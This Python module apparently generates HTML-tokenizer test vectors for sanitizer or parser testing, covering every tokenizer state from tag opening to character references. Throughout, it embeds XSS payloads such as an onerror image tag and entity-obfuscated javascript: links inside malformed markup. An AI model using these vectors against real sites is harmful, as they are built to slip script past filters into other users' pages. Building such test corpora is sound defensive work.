"""Markup for each state of the HTML tokenizer (HTML Living Standard §13.2.5), written for the purpose (PROMISES B2 25).

Every state is entered and left in the ways its rules tell apart: early, late, never. § stands for something live, which
a parser that lost its place would bring to life; ¦ and line ends part the vectors, escapes are Python's.
"""

from __future__ import annotations

import re

LIVE = "<img src=x onerror=alert(1)>"

# Tag open, end tag open, tag name, attribute name and value in all their states, self-closing start tag.
TAGS = r"""
< ¦ </ ¦ <> ¦ </> ¦ < img> ¦ </ img> ¦ <1> ¦ </1> ¦ <!> ¦ <!-> ¦ <?> ¦ <\x00> ¦ </\x00> ¦ <p\x00q>§ ¦ <p/§
<p/x/y>§ ¦ <P\tq>§ ¦ <p\x0cq>§ ¦ <p\r\nq>§ ¦ § ¦ <img\tsrc=x\tonerror=alert(1)> ¦ <img\nsrc=x\nonerror=alert(1)>
<img\x0csrc=x\x0conerror=alert(1)> ¦ <img\rsrc=x\ronerror=alert(1)> ¦ <img/src=x/onerror=alert(1)>
<img//src=x//onerror=alert(1)> ¦ <img / src=x / onerror=alert(1)> ¦ <§ ¦ <<§ ¦ </p § ¦ <a<b>§
<p><<<<<<<<<<<<<<<<<<<<<<<<<<<<<<§ ¦ <img src=x onerror=alert(1) ¦ <p =§ ¦ <p =x § ¦ <p x= § ¦ <p x=>§ ¦ <p "=§
<p '>§ ¦ <p <>§ ¦ <img src=x x onerror =alert(1)> ¦ <img src=x onerror\n=\nalert(1)>
<img src=x onerror=alert(1) onerror=2> ¦ <img src=x ONERROR=alert(1)> ¦ <img src=x on\x00error=alert(1)>
<img src=x onerror\x00=alert(1)> ¦ <p x="§ ¦ <p x='§ ¦ <p x=`§ ¦ <p x="a"b="c"§ ¦ <p x="a"/§ ¦ <p x='a'>§
<p x="'">§ ¦ <p x='"'>§ ¦ <p x="&quot;>§"> ¦ <p x='&#39;>§'> ¦ <p x=a"b'c>§ ¦ <p x=a`b=c<d>§
<p title="§">x</p> ¦ <p title='--><!--§'>x</p> ¦ <a href="x" § ¦ <p/>§ ¦ <p / >§ ¦ <br/ §
<img/src=x/onerror=alert(1)/> ¦ <p/\x00>§
"""

# Bogus comment, markup declaration open, comment start to comment end bang, CDATA in and out of foreign content.
COMMENTS = r"""
<!-->§ ¦ <!--->§ ¦ <!---->§ ¦ <!--§ ¦ <!---§ ¦ <!----§ ¦ <!--!§ ¦ <!--<§ ¦ <!--<!§ ¦ <!--<!-§ ¦ <!--<!--§
<!--<!-->§ ¦ <!--a-->§ ¦ <!--§-->§ ¦ <!--a--!>§ ¦ <!--§--!>§ ¦ <!--a--!§ ¦ <!--§--!§ ¦ <!--a->§ ¦ <!--§->§
<!--a>§ ¦ <!--§>§ ¦ <!--a-- >§ ¦ <!--§-- >§ ¦ <!--a--\x00>§ ¦ <!--§--\x00>§ ¦ <!--a--->§ ¦ <!--§--->§
<!--a-->-->§ ¦ <!--§-->-->§ ¦ <!--a--!-->§ ¦ <!--§--!-->§ ¦ <!--a]]>§ ¦ <!--§]]>§ ¦ <!--a§ ¦ <!--§§ ¦ <!x>§
<!x § ¦ </ x>§ ¦ <?x>§ ¦ <?x ?>§ ¦ <?x § ?> ¦ <![x[§]]> ¦ <![CDATA[§]]> ¦ <![CDATA[>§]]> ¦ <![CDATA[]]]>§
<![CDATA[<!--]]>§--> ¦ <svg><![CDATA[§]]> ¦ <svg><![CDATA[>§]]> ¦ <svg><![CDATA[]]]>§
<svg><![CDATA[<!--]]>§--> ¦ <math><mi><![CDATA[§]]> ¦ <math><mi><![CDATA[>§]]> ¦ <math><mi><![CDATA[]]]>§
<math><mi><![CDATA[<!--]]>§--> ¦ <svg><title><![CDATA[§]]> ¦ <svg><title><![CDATA[>§]]>
<svg><title><![CDATA[]]]>§ ¦ <svg><title><![CDATA[<!--]]>§-->
<math><annotation-xml encoding='text/html'><![CDATA[§]]>
<math><annotation-xml encoding='text/html'><![CDATA[>§]]>
<math><annotation-xml encoding='text/html'><![CDATA[]]]>§
<math><annotation-xml encoding='text/html'><![CDATA[<!--]]>§-->
"""

# The states of a DOCTYPE.
DOCTYPES = r"""
<!DOCTYPE>§ ¦ <!DOCTYPE§ ¦ <!DOCTYPE >§ ¦ <!DOCTYPE § ¦ <!DOCTYPE x>§ ¦ <!DOCTYPE x§ ¦ <!DOCTYPE x PUBLIC>§
<!DOCTYPE x PUBLIC§ ¦ <!DOCTYPE x PUBLIC '>§ ¦ <!DOCTYPE x PUBLIC '§ ¦ <!DOCTYPE x PUBLIC "a" '>§
<!DOCTYPE x PUBLIC "a" '§ ¦ <!DOCTYPE x SYSTEM>§ ¦ <!DOCTYPE x SYSTEM§ ¦ <!DOCTYPE x SYSTEM '>>§
<!DOCTYPE x SYSTEM '>§ ¦ <!DOCTYPEx>§ ¦ <!DOCTYPEx§ ¦ <!DOCTYPE x [<!ENTITY a 'b'>]>§
<!DOCTYPE x [<!ENTITY a 'b'>]§
"""

# RCDATA, RAWTEXT, script data (escaped, double escaped) and PLAINTEXT, with their end tag states: $ is each element.
ELEMENTS = "title textarea style xmp iframe noembed noframes noscript script plaintext template select svg math".split()
TEXTS = r"""
<$>x</$>§ ¦ <$>x</$ >§ ¦ <$>x</$/>§ ¦ <$>x</$x>§ ¦ <$>x</$§ ¦ <$>x</ $>§ ¦ <$>x<\x00/$>§ ¦ <$>x</$\x0c§§ ¦ <$>x§
<$><p title='</$>§'> ¦ <$><!--</$>§-->
"""
SCRIPTS = r"""
<script><!--</script>§--> ¦ <script><!--</script>§ ¦ <script><!--§--></script>§ ¦ <script><!--<script></script>§
<script><!--<script>§--></script>§ ¦ <script><!--<script></script></script>§
<script><!--<script></script>§--></script>§ ¦ <script><!--<script>--></script></script>§
<script><!--<script>--></script>§--></script>§ ¦ <script><!--<script <</script>§
<script><!--<script <§--></script>§ ¦ <script><!--></script>§ ¦ <script><!-->§--></script>§
<script><!--<scriptx></script>§ ¦ <script><!--<scriptx>§--></script>§
"""

# Character references: named, numeric, without semicolon, out of range.
REFERENCES = r"""
&lt;img src=x onerror=alert(1)> ¦ <p title='&lt;img src=x onerror=alert(1)>'>x ¦ &ltimg src=x onerror=alert(1)>
<p title='&ltimg src=x onerror=alert(1)>'>x ¦ &LT;img src=x onerror=alert(1)>
<p title='&LT;img src=x onerror=alert(1)>'>x ¦ &#60;img src=x onerror=alert(1)>
<p title='&#60;img src=x onerror=alert(1)>'>x ¦ &#60img src=x onerror=alert(1)>
<p title='&#60img src=x onerror=alert(1)>'>x ¦ &#x3c;img src=x onerror=alert(1)>
<p title='&#x3c;img src=x onerror=alert(1)>'>x ¦ &#X3Cimg src=x onerror=alert(1)>
<p title='&#X3Cimg src=x onerror=alert(1)>'>x ¦ &#0000060;img src=x onerror=alert(1)>
<p title='&#0000060;img src=x onerror=alert(1)>'>x ¦ &amp;lt;img src=x onerror=alert(1)>
<p title='&amp;lt;img src=x onerror=alert(1)>'>x ¦ &lt;&#0;img src=x onerror=alert(1)>
<p title='&lt;&#0;img src=x onerror=alert(1)>'>x ¦ &nvlt;img src=x onerror=alert(1)>
<p title='&nvlt;img src=x onerror=alert(1)>'>x ¦ &#0;§ ¦ <a href='&#0;javascript:alert(1)'>x</a>
<a href='java&#0;script:alert(1)'>x</a> ¦ &#x80;§ ¦ <a href='&#x80;javascript:alert(1)'>x</a>
<a href='java&#x80;script:alert(1)'>x</a> ¦ &#xD800;§ ¦ <a href='&#xD800;javascript:alert(1)'>x</a>
<a href='java&#xD800;script:alert(1)'>x</a> ¦ &#x110000;§ ¦ <a href='&#x110000;javascript:alert(1)'>x</a>
<a href='java&#x110000;script:alert(1)'>x</a> ¦ &#99999999999;§
<a href='&#99999999999;javascript:alert(1)'>x</a> ¦ <a href='java&#99999999999;script:alert(1)'>x</a> ¦ &#;§
<a href='&#;javascript:alert(1)'>x</a> ¦ <a href='java&#;script:alert(1)'>x</a> ¦ &#x;§
<a href='&#x;javascript:alert(1)'>x</a> ¦ <a href='java&#x;script:alert(1)'>x</a> ¦ &;§
<a href='&;javascript:alert(1)'>x</a> ¦ <a href='java&;script:alert(1)'>x</a> ¦ &notit;§
<a href='&notit;javascript:alert(1)'>x</a> ¦ <a href='java&notit;script:alert(1)'>x</a> ¦ &not=x§
<a href='&not=xjavascript:alert(1)'>x</a> ¦ <a href='java&not=xscript:alert(1)'>x</a> ¦ &ampx§
<a href='&ampxjavascript:alert(1)'>x</a> ¦ <a href='java&ampxscript:alert(1)'>x</a> ¦ &§
<a href='&javascript:alert(1)'>x</a> ¦ <a href='java&script:alert(1)'>x</a>
"""


def _vectors(block: str) -> list[str]:
    found = [one for one in re.split(r" ¦ |\n", block) if one]
    return [one.encode("latin-1").decode("unicode_escape").replace("§", LIVE) for one in found]


_ALL = [*_vectors(TAGS), *_vectors(COMMENTS), *_vectors(DOCTYPES), *_vectors(SCRIPTS), *_vectors(REFERENCES)]
_ALL += [one.replace("$", element) for element in ELEMENTS for one in _vectors(TEXTS)]
TOKENIZER = tuple(dict.fromkeys(_ALL))
